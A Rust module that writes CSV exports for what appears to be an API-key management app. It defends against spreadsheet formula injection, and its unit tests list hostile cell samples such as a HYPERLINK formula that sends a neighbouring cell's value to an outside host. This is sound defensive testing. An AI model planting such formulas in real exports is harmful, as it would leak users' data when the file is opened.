//! Writing CSV: a header row, then one record per row, quoted only where
//! needed (RFC 4180, `\n` line ends). Files holding key strings are created
//! owner-only.
//!
//! Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` as a formula
//! (and some strip a leading tab or CR first), so a key named
//! `=HYPERLINK(…)` could act when the export is opened. Every text cell gets
//! the neutralising `'` of [`spreadsheet_safe`]; number cells stay plain numbers so that sums
//! keep working.

use std::borrow::Cow;
use std::io;

/// How a column's cells are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Column {
    /// Free text (names, labels, messages): neutralised with [`spreadsheet_safe`].
    Text,
    /// A number as [`number`] writes it (or empty): written as it is.
    Number,
}

/// Text as a spreadsheet will show it, never run it: a cell starting with
/// `=`, `+`, `-`, `@`, a tab or a carriage return gets a `'` in front, which
/// spreadsheets read as "this is text" and do not display.
pub fn spreadsheet_safe(text: &str) -> Cow<'_, str> {
    if starts_like_a_formula(text.as_bytes()) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

fn starts_like_a_formula(cell: &[u8]) -> bool {
    matches!(
        cell.first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

/// [`spreadsheet_safe`] on bytes (cells need not be UTF-8).
fn safe_bytes(cell: &[u8]) -> Cow<'_, [u8]> {
    if starts_like_a_formula(cell) {
        let mut out = Vec::with_capacity(cell.len() + 1);
        out.push(b'\'');
        out.extend_from_slice(cell);
        Cow::Owned(out)
    } else {
        Cow::Borrowed(cell)
    }
}

/// The whole CSV as bytes, with each column written as `columns` says
/// (`columns[i]` for the i-th cell of every row; cells past the end are text).
pub fn to_bytes<R, I, S>(header: &[&str], columns: &[Column], rows: R) -> io::Result<Vec<u8>>
where
    R: IntoIterator<Item = I>,
    I: IntoIterator<Item = S>,
    S: AsRef<[u8]>,
{
    write_all(header, rows, |i, cell| match columns.get(i) {
        Some(Column::Number) => Cow::Borrowed(cell),
        _ => safe_bytes(cell),
    })
}

/// How many bytes [`push_cell`] appends for `cell`: a buffer sized with it
/// never grows, so no copy of its content is left behind in freed memory.
pub fn cell_len(cell: &str, column: Column) -> usize {
    let quoted = cell.contains([',', '"', '\n', '\r']);
    let mark = usize::from(column == Column::Text && starts_like_a_formula(cell.as_bytes()));
    let quotes = if quoted {
        2 + cell.matches('"').count()
    } else {
        0
    };
    cell.len() + mark + quotes
}

/// Appends one cell to `out` as [`to_bytes`] writes it (neutralised if text,
/// quoted where RFC 4180 needs it), without any copy of the cell in between:
/// for CSV built in a buffer that is wiped afterwards (key strings).
pub fn push_cell(out: &mut String, cell: &str, column: Column) {
    let quoted = cell.contains([',', '"', '\n', '\r']);
    if quoted {
        out.push('"');
    }
    if column == Column::Text && starts_like_a_formula(cell.as_bytes()) {
        out.push('\'');
    }
    if quoted {
        for c in cell.chars() {
            if c == '"' {
                out.push('"');
            }
            out.push(c);
        }
        out.push('"');
    } else {
        out.push_str(cell);
    }
}

fn write_all<R, I, S>(
    header: &[&str],
    rows: R,
    cell: impl for<'c> Fn(usize, &'c [u8]) -> Cow<'c, [u8]>,
) -> io::Result<Vec<u8>>
where
    R: IntoIterator<Item = I>,
    I: IntoIterator<Item = S>,
    S: AsRef<[u8]>,
{
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(header)?;
    for row in rows {
        let row: Vec<S> = row.into_iter().collect();
        writer.write_record(row.iter().enumerate().map(|(i, c)| cell(i, c.as_ref())))?;
    }
    writer
        .into_inner()
        .map_err(|e| io::Error::other(e.to_string()))
}

/// A number as exported: plain, unformatted (`12.5`, `0`, `1000`).
pub fn number(n: f64) -> String {
    if n == 0.0 {
        "0".to_string()
    } else {
        format!("{n}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quotes_only_where_needed() {
        let bytes = to_bytes(
            &["name", "limit"],
            &[Column::Text, Column::Number],
            vec![
                vec!["Smith, John", "12.5"],
                vec!["say \"hi\"", ""],
                vec!["a\nb", "0"],
            ],
        )
        .unwrap();
        assert_eq!(
            String::from_utf8(bytes).unwrap(),
            "name,limit\n\"Smith, John\",12.5\n\"say \"\"hi\"\"\",\n\"a\nb\",0\n"
        );
    }

    const HOSTILE: [&str; 6] = [
        "=HYPERLINK(\"https://x/?\"&B2,\"Open\")",
        "+1",
        "-cmd",
        "@SUM(A1)",
        "\tx",
        "\rx",
    ];

    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(bytes)
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect()
    }

    #[test]
    fn spreadsheet_safe_prefixes_formula_starts_only() {
        for text in HOSTILE {
            assert_eq!(spreadsheet_safe(text), format!("'{text}"), "{text:?}");
        }
        for text in ["", "Prod", "a=b", " =1", "'quoted", "12.5", "Ünïcode"] {
            assert!(
                matches!(spreadsheet_safe(text), Cow::Borrowed(t) if t == text),
                "{text:?}"
            );
        }
    }

    /// Rows shaped like the app's key list export (name, label, hash, status,
    /// limit, reset, remaining, usage …) and its audit export (time, action,
    /// hash, name, changes, outcome): text cells neutralised, numbers as they are.
    #[test]
    fn key_list_and_audit_exports_neutralise_names_and_keep_numbers() {
        for name in HOSTILE {
            let key_row = vec![
                name.to_string(),
                "sk-or-v1-abc...123".into(),
                "f".repeat(64),
                "active".into(),
                number(-5.0),
                "monthly".into(),
                number(12.5),
                number(0.0),
                "true".into(),
                String::new(),
            ];
            let audit_row = vec![
                "2026-11-20T10:00:00.000Z".to_string(),
                "update".into(),
                "f".repeat(64),
                name.to_string(),
                format!("name: {name} -> -renamed"),
                "ok".into(),
            ];
            let kinds = [
                Column::Text,
                Column::Text,
                Column::Text,
                Column::Text,
                Column::Number,
                Column::Text,
                Column::Number,
                Column::Number,
            ];
            let row = &read_back(&to_bytes(&["name"; 10], &kinds, [key_row]).unwrap())[0];
            assert_eq!(row[0], format!("'{name}"));
            assert_eq!(row[1], "sk-or-v1-abc...123");
            assert_eq!(&row[4..8], ["-5", "monthly", "12.5", "0"]);
            assert_eq!(row[8], "true");
            assert_eq!(row[9], "");
            let text = [Column::Text; 6];
            let row = &read_back(&to_bytes(&["time"; 6], &text, [audit_row]).unwrap())[0];
            assert_eq!(row[0], "2026-11-20T10:00:00.000Z");
            assert_eq!(row[3], format!("'{name}"));
            assert_eq!(row[4], format!("name: {name} -> -renamed"));
        }
    }

    #[test]
    fn text_columns_neutralise_number_looking_text() {
        let bytes = to_bytes(
            &["name", "limit"],
            &[Column::Text, Column::Number],
            [["-5", "-5"], ["12", "1.5"]],
        )
        .unwrap();
        assert_eq!(
            String::from_utf8(bytes).unwrap(),
            "name,limit\n'-5,-5\n12,1.5\n"
        );
    }

    #[test]
    fn cell_len_is_what_push_cell_appends() {
        let mut cells: Vec<&str> = HOSTILE.to_vec();
        cells.extend([
            "",
            "plain",
            "a,b",
            "=\"x\",\"y\"",
            "-\"\"\"",
            "line\nbreak",
            "Ünï,\"c\"",
        ]);
        for column in [Column::Text, Column::Number] {
            for cell in &cells {
                let mut out = String::new();
                push_cell(&mut out, cell, column);
                assert_eq!(cell_len(cell, column), out.len(), "{cell:?} as {column:?}");
            }
        }
    }

    /// A cell pushed into a buffer reads back exactly as the same cell written
    /// by `to_bytes`, for hostile and quoted text alike.
    #[test]
    fn push_cell_writes_what_to_bytes_writes() {
        let mut cells: Vec<&str> = HOSTILE.to_vec();
        cells.extend([
            "",
            "plain",
            "a,b",
            "say \"hi\"",
            "=a,b",
            "-\"x\"",
            "line\nbreak",
            "-5",
        ]);
        for column in [Column::Text, Column::Number] {
            for cell in &cells {
                let mut pushed = String::from("h,i\n");
                push_cell(&mut pushed, cell, column);
                pushed.push_str(",x\n");
                let written = to_bytes(&["h", "i"], &[column], [[*cell, "x"]]).unwrap();
                assert_eq!(pushed.as_bytes(), written, "{cell:?} as {column:?}");
            }
        }
    }

    #[test]
    fn numbers_are_plain() {
        assert_eq!(number(12.5), "12.5");
        assert_eq!(number(1000.0), "1000");
        assert_eq!(number(-0.0), "0");
        assert_eq!(number(0.000_1), "0.0001");
        assert_eq!(number(1e9), "1000000000");
    }
}
